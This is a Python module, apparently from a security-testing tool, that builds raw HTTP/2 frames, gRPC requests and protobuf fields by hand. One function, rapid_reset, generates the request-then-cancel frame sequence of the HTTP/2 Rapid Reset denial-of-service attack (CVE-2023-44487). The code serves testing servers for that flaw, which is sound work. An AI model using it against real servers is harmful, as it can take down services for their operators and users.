"""HTTP/2 by hand (RFC 9113), for what a well-behaved client would not do, and gRPC on top of it."""

from __future__ import annotations

import socket
import ssl
from collections.abc import Iterator
from contextlib import suppress

from asking import PREFACE, opened, received

DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = 8


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One frame."""
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def fields(headers: dict[str, str]) -> bytes:
    """Header fields, each as literals without an index (RFC 7541, section 6.2.2)."""
    return b"".join(b"\0" + text(name) + text(value) for name, value in headers.items())


def text(value: str) -> bytes:
    """A string without Huffman's code, shorter than 127 bytes."""
    raw = value.encode()
    assert len(raw) < 127
    return bytes([len(raw)]) + raw


def begin(stream: int, path: str, method: str = "GET", **others: str) -> bytes:
    """The head of a request; with others than a GET a body follows."""
    own = {":method": method, ":scheme": "https", ":authority": "localhost", ":path": path}
    flags = END_HEADERS | (END_STREAM if method == "GET" else 0)
    return frame(HEADERS, flags, stream, fields(own | others))


def connect(
    address: str, port: int, context: ssl.SSLContext | None, source: str = ""
) -> socket.socket:
    """A connection that has begun to speak HTTP/2."""
    if context:
        context.set_alpn_protocols(["h2"])
    connection = opened(address, port, context, source=source)
    connection.sendall(PREFACE + frame(SETTINGS, ACK, 0, b""))
    return connection


def rapid_reset(first: int, streams: int, path: str) -> Iterator[bytes]:
    """Requests that are taken back as soon as they are sent (CVE-2023-44487)."""
    for number in range(first, first + 2 * streams, 2):
        yield begin(number, path) + frame(RST_STREAM, 0, number, CANCEL.to_bytes(4))


def call(
    address: str, port: int, method: str, message: bytes, context: ssl.SSLContext | None
) -> bytes:
    """The messages that a gRPC method answers; none if it refuses, or is not there."""
    head = {"content-type": "application/grpc", "te": "trailers"}
    body = b"\0" + len(message).to_bytes(4) + message
    answer = b""
    with suppress(OSError), connect(address, port, context) as connection:
        connection.sendall(begin(1, method, "POST", **head) + frame(DATA, END_STREAM, 1, body))
        answer = received(connection, until=method_ended)
    data = b"".join(content for kind, _, content in frames(answer) if kind == DATA)
    return data if data.startswith(b"\0") else b""  # a message that is not compressed, or a page


def frames(answer: bytes) -> Iterator[tuple[int, int, bytes]]:
    """Kind, flags and content of each whole frame."""
    while len(answer) >= 9 and len(answer) >= (end := 9 + int.from_bytes(answer[:3])):
        yield answer[3], answer[4], answer[9:end]
        answer = answer[end:]


def method_ended(answer: bytes) -> bool:
    """Has the method said all, or is this no HTTP/2?"""
    ended = any(kind in (HEADERS, DATA) and flags & END_STREAM for kind, flags, _ in frames(answer))
    return ended or answer.startswith(b"HTTP/1.")


def part(number: int, content: str | bytes) -> bytes:
    """A field of a protobuf message that is a text, bytes or a message, shorter than 16 KiB."""
    raw = content.encode() if isinstance(content, str) else content
    size = len(raw)
    length = bytes([size]) if size < 128 else bytes([size & 127 | 128, size >> 7])
    return bytes([number << 3 | 2]) + length + raw
